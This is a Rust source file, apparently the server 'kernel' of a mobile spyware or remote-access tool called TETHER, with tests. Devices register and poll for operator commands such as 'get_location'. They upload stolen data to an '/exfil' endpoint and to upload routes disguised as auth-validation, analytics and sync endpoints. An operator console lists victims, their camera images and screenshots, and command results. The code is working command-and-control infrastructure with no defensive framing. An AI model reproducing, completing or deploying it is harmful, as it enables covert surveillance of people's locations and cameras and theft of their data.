/**
 * API HTTP TETHER - Serveur Axum du kernel
 *
 * RÔLE :
 * Deux surfaces sur un même routeur :
 * - routes device (register, poll, ack, upload, push token, analytics) : sans authentification
 * - routes opérateur (/console, /devices, /data, /command_results, /system) : header x-api-key
 *
 * ERREURS : chaque handler rend un EngineResult ; la conversion en status HTTP se fait
 * ici via IntoResponse. Les erreurs de store donnent un 500 au corps générique.
 */

use crate::engine::SyncEngine;
use crate::error::{EngineError, EngineResult};
use crate::health::HealthTracker;
use crate::ingest::UploadHeaders;
use axum::body::Bytes;
use axum::extract::{ConnectInfo, Path, Request, State};
use axum::http::{HeaderMap, StatusCode};
use axum::middleware::{self, Next};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use axum::{Json, Router};
use serde::de::DeserializeOwned;
use serde::Deserialize;
use serde_json::{json, Map, Value};
use std::net::SocketAddr;
use std::sync::Arc;
use tokio::net::TcpListener;
use tracing::{error, warn};

#[derive(Clone)]
pub struct AppState {
    pub engine: SyncEngine,
    pub health_tracker: HealthTracker,
    /// Clé attendue dans x-api-key ; None => routes opérateur fermées
    pub api_key: Option<Arc<str>>,
}

impl IntoResponse for EngineError {
    fn into_response(self) -> Response {
        let (code, message) = match &self {
            EngineError::Validation(msg) => (StatusCode::BAD_REQUEST, msg.clone()),
            EngineError::Decode(msg) => (StatusCode::BAD_REQUEST, msg.clone()),
            EngineError::NotFound(msg) => (StatusCode::NOT_FOUND, format!("not found: {msg}")),
            EngineError::Store(e) => {
                error!("[http] store failure: {}", e);
                (StatusCode::INTERNAL_SERVER_ERROR, "internal error".to_string())
            }
        };
        (code, Json(json!({"status": "error", "message": message}))).into_response()
    }
}

async fn require_api_key(State(app): State<AppState>, req: Request, next: Next) -> Result<Response, StatusCode> {
    let Some(expected) = app.api_key.as_deref() else {
        warn!("[http] SECURITY: TETHER_API_KEY not set - operator access denied");
        return Err(StatusCode::UNAUTHORIZED);
    };

    let ok = req
        .headers()
        .get("x-api-key")
        .and_then(|v| v.to_str().ok())
        .map(|v| v == expected)
        .unwrap_or(false);

    if !ok {
        warn!("[http] unauthorized operator request on {}", req.uri().path());
        return Err(StatusCode::UNAUTHORIZED);
    }
    Ok(next.run(req).await)
}

pub fn build_router(app_state: AppState) -> Router {
    let operator = Router::new()
        .route("/console/command", post(enqueue_command))
        .route("/devices", get(list_devices))
        .route("/data/{data_type}", get(list_telemetry))
        .route("/command_results/{device_id}", get(command_results))
        .route("/system/health", get(get_system_health))
        .route_layer(middleware::from_fn_with_state(app_state.clone(), require_api_key));

    Router::new()
        .route("/health", get(|| async { "ok" }))
        .route("/register", post(register))
        .route("/api/register", post(register))
        .route("/command", post(poll_commands))
        .route("/api/command", post(poll_commands))
        .route("/command_response", post(command_response))
        .route("/api/command_response", post(command_response))
        .route("/exfil", post(upload))
        .route("/api/data", post(upload))
        .route("/api/data/{*rest}", post(upload))
        .route("/api/auth/validate", post(upload))
        .route("/register_fcm", post(register_push_token))
        .route("/api/register_fcm", post(register_push_token))
        .route("/api/analytics", post(analytics))
        .route("/api/telemetry", post(analytics))
        .route("/api/sync", post(analytics))
        .merge(operator)
        .with_state(app_state)
}

/// Sert le routeur avec l'adresse du pair (utilisée par les analytics)
pub async fn serve(listener: TcpListener, app: Router) -> std::io::Result<()> {
    axum::serve(listener, app.into_make_service_with_connect_info::<SocketAddr>()).await
}

fn parse_body<T: DeserializeOwned>(body: &Bytes) -> EngineResult<T> {
    serde_json::from_slice(body).map_err(EngineError::decode)
}

fn header_text(headers: &HeaderMap, name: &str) -> Option<String> {
    headers.get(name).and_then(|v| v.to_str().ok()).map(str::to_string)
}

fn upload_headers(headers: &HeaderMap) -> UploadHeaders {
    UploadHeaders {
        data_type: header_text(headers, "x-data-type"),
        device_id: header_text(headers, "x-device-id"),
        content_type: header_text(headers, "content-type"),
        encrypted: header_text(headers, "x-encrypted")
            .map(|v| matches!(v.trim().to_ascii_lowercase().as_str(), "1" | "true" | "yes"))
            .unwrap_or(false),
    }
}

// ---- routes device ----

#[derive(Debug, Deserialize)]
struct RegisterRequest {
    #[serde(default)]
    device_id: String,
    #[serde(default)]
    device_info: Map<String, Value>,
}

async fn register(State(app): State<AppState>, body: Bytes) -> EngineResult<Json<Value>> {
    let req: RegisterRequest = parse_body(&body)?;
    let (device, commands) = app.engine.register(&req.device_id, req.device_info).await?;
    Ok(Json(json!({"status": "success", "device_id": device.device_id, "commands": commands})))
}

#[derive(Debug, Deserialize)]
struct PollRequest {
    #[serde(default)]
    device_id: String,
}

async fn poll_commands(State(app): State<AppState>, body: Bytes) -> EngineResult<Json<Value>> {
    let req: PollRequest = parse_body(&body)?;
    let commands = app.engine.poll(&req.device_id).await?;
    Ok(Json(json!({"status": "success", "commands": commands})))
}

#[derive(Debug, Deserialize)]
struct AckRequest {
    #[serde(default)]
    device_id: String,
    #[serde(default)]
    command_id: String,
    #[serde(default)]
    result: Option<Value>,
    #[serde(default)]
    command_type: Option<String>,
}

async fn command_response(State(app): State<AppState>, body: Bytes) -> EngineResult<Json<Value>> {
    let req: AckRequest = parse_body(&body)?;
    let cmd = app.engine.acknowledge(&req.device_id, &req.command_id, req.result).await?;
    if let Some(declared) = req.command_type.filter(|t| *t != cmd.command) {
        warn!("[http] ack {}: type déclaré {} != {}", cmd.id, declared, cmd.command);
    }
    Ok(Json(json!({"status": "success"})))
}

async fn upload(State(app): State<AppState>, headers: HeaderMap, body: Bytes) -> EngineResult<Json<Value>> {
    let outcome = app.engine.ingestor.ingest(&body, &upload_headers(&headers)).await?;
    Ok(Json(json!({"status": "success", "message": format!("{} data received", outcome.data_type)})))
}

#[derive(Debug, Deserialize)]
struct PushTokenRequest {
    #[serde(default)]
    device_id: String,
    #[serde(default)]
    fcm_token: String,
}

async fn register_push_token(State(app): State<AppState>, body: Bytes) -> EngineResult<Json<Value>> {
    let req: PushTokenRequest = parse_body(&body)?;
    let device = app.engine.registry.set_push_token(&req.device_id, &req.fcm_token).await?;
    Ok(Json(json!({"status": "success", "device_id": device.device_id})))
}

async fn analytics(
    State(app): State<AppState>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    headers: HeaderMap,
    body: Bytes,
) -> EngineResult<Json<Value>> {
    let client_id = header_text(&headers, "x-device-id").unwrap_or_default();
    app.engine.ingestor.record_analytics(&client_id, &body, &peer.ip().to_string()).await?;
    Ok(Json(json!({"status": "success", "message": "Analytics received"})))
}

// ---- routes opérateur ----

#[derive(Debug, Deserialize)]
struct EnqueueRequest {
    #[serde(default)]
    device_id: String,
    #[serde(default)]
    command: Value,
}

async fn enqueue_command(State(app): State<AppState>, body: Bytes) -> EngineResult<Json<Value>> {
    let req: EnqueueRequest = parse_body(&body)?;
    let cmd = app.engine.queue.enqueue(&req.device_id, req.command).await?;
    Ok(Json(json!({"status": "success", "command_id": cmd.id})))
}

async fn list_devices(State(app): State<AppState>) -> EngineResult<impl IntoResponse> {
    Ok(Json(app.engine.console.list_devices().await?))
}

async fn list_telemetry(State(app): State<AppState>, Path(data_type): Path<String>) -> EngineResult<impl IntoResponse> {
    Ok(Json(app.engine.console.list_telemetry(&data_type).await?))
}

async fn command_results(State(app): State<AppState>, Path(device_id): Path<String>) -> EngineResult<impl IntoResponse> {
    Ok(Json(app.engine.console.command_results(&device_id).await?))
}

async fn get_system_health(State(app): State<AppState>) -> EngineResult<impl IntoResponse> {
    let devices = app.engine.registry.count().await?;
    Ok(Json(app.health_tracker.snapshot(devices, app.engine.store_backend())))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::clock::SystemClock;
    use crate::config::KernelConfig;
    use crate::push::NoopPush;
    use crate::store::{MemoryStore, RecordStore, RestStore, SharedStore};
    use std::time::Duration;

    const KEY: &str = "test-operator-key";

    async fn spawn_with(store: SharedStore) -> String {
        let engine = SyncEngine::new(store, Arc::new(NoopPush), Arc::new(SystemClock), &KernelConfig::default()).unwrap();
        let state = AppState { engine, health_tracker: HealthTracker::new(), api_key: Some(Arc::from(KEY)) };
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(serve(listener, build_router(state)));
        format!("http://{addr}")
    }

    async fn spawn() -> String {
        spawn_with(Arc::new(MemoryStore::new())).await
    }

    #[tokio::test]
    async fn test_device_round_trip_over_http() {
        let base = spawn().await;
        let client = reqwest::Client::new();

        let reg: Value = client
            .post(format!("{base}/api/register"))
            .json(&json!({"device_id": "d1", "device_info": {"model": "Pixel"}}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert_eq!(reg["status"], json!("success"));
        assert_eq!(reg["commands"].as_array().unwrap().len(), 2);

        let queued: Value = client
            .post(format!("{base}/console/command"))
            .header("x-api-key", KEY)
            .json(&json!({"device_id": "d1", "command": {"command": "get_location"}}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let command_id = queued["command_id"].as_str().unwrap().to_string();

        let polled: Value = client
            .post(format!("{base}/command"))
            .json(&json!({"device_id": "d1"}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert_eq!(polled["commands"][0]["id"], json!(command_id));
        assert_eq!(polled["commands"][0]["command"], json!("get_location"));

        let ack = client
            .post(format!("{base}/command_response"))
            .json(&json!({"device_id": "d1", "command_id": command_id, "result": {"latitude": 3.5, "longitude": 4.5}}))
            .send()
            .await
            .unwrap();
        assert_eq!(ack.status(), reqwest::StatusCode::OK);

        let results: Value = client
            .get(format!("{base}/command_results/d1"))
            .header("x-api-key", KEY)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert_eq!(results[0]["result"]["map_url"], json!("https://maps.google.com/?q=3.5,4.5"));
    }

    #[tokio::test]
    async fn test_operator_routes_require_key() {
        let base = spawn().await;
        let client = reqwest::Client::new();

        let resp = client.get(format!("{base}/devices")).send().await.unwrap();
        assert_eq!(resp.status(), reqwest::StatusCode::UNAUTHORIZED);

        let resp = client.get(format!("{base}/devices")).header("x-api-key", "wrong").send().await.unwrap();
        assert_eq!(resp.status(), reqwest::StatusCode::UNAUTHORIZED);

        let resp = client.get(format!("{base}/health")).send().await.unwrap();
        assert_eq!(resp.text().await.unwrap(), "ok");
    }

    #[tokio::test]
    async fn test_error_statuses() {
        let base = spawn().await;
        let client = reqwest::Client::new();

        let resp = client.post(format!("{base}/register")).body("not json").send().await.unwrap();
        assert_eq!(resp.status(), reqwest::StatusCode::BAD_REQUEST);

        let resp = client.post(format!("{base}/register")).json(&json!({"device_info": {}})).send().await.unwrap();
        assert_eq!(resp.status(), reqwest::StatusCode::BAD_REQUEST);

        let resp = client
            .post(format!("{base}/command_response"))
            .json(&json!({"device_id": "d1", "command_id": "nope"}))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), reqwest::StatusCode::NOT_FOUND);
    }

    #[tokio::test]
    async fn test_binary_upload_and_listing() {
        let base = spawn().await;
        let client = reqwest::Client::new();

        let resp: Value = client
            .post(format!("{base}/exfil"))
            .header("X-Data-Type", "camera_image")
            .header("X-Device-ID", "cam")
            .body(vec![0xffu8, 0xd8, 0xff, 0xe0])
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert_eq!(resp["message"], json!("camera_image data received"));

        let rows: Value = client
            .get(format!("{base}/data/screenshots"))
            .header("x-api-key", KEY)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert_eq!(rows.as_array().unwrap().len(), 1);
        assert_eq!(rows[0]["device_id"], json!("cam"));
    }

    #[tokio::test]
    async fn test_store_failure_is_generic_500() {
        let store = RestStore::new("http://127.0.0.1:9", None, Duration::from_millis(500)).unwrap();
        let base = spawn_with(Arc::new(store)).await;

        let resp = reqwest::Client::new()
            .post(format!("{base}/register"))
            .json(&json!({"device_id": "d1"}))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), reqwest::StatusCode::INTERNAL_SERVER_ERROR);
        let body: Value = resp.json().await.unwrap();
        assert_eq!(body, json!({"status": "error", "message": "internal error"}));
    }

    #[tokio::test]
    async fn test_corrupt_queue_record_is_generic_500() {
        let store = Arc::new(MemoryStore::new());
        store.set("commands/d1", json!({"pending": 5})).await.unwrap();
        let base = spawn_with(store).await;

        let resp = reqwest::Client::new()
            .post(format!("{base}/command"))
            .json(&json!({"device_id": "d1"}))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), reqwest::StatusCode::INTERNAL_SERVER_ERROR);
        let body: Value = resp.json().await.unwrap();
        assert_eq!(body, json!({"status": "error", "message": "internal error"}));
    }
}
